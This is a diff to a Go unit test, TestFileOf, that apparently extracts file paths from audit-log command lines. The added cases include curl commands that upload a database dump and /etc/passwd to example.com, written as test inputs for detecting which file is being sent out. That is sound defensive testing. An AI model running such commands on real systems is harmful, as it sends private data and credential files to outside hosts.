@@ -38,6 +38,8 @@ func TestFileOf(t *testing.T) {
 		{"/usr/bin/python3 -u /srv/a.py", "/srv/a.py"},
 		{"res=0 olddirfd=-100(AT_FDCWD) oldpath=/usr/bin/wget newpath=/usr/bin/w", "/usr/bin/wget"},
 		{"curl https://example.com/a", ""},
+		{"curl -F file=@/tmp/db.sql.gz;type=application/gzip https://example.com/", "/tmp/db.sql.gz"},
+		{"curl --data-binary @/etc/passwd https://example.com/", "/etc/passwd"},
 		{"/usr/bin/true", ""},
 		{"", ""},
 	} {
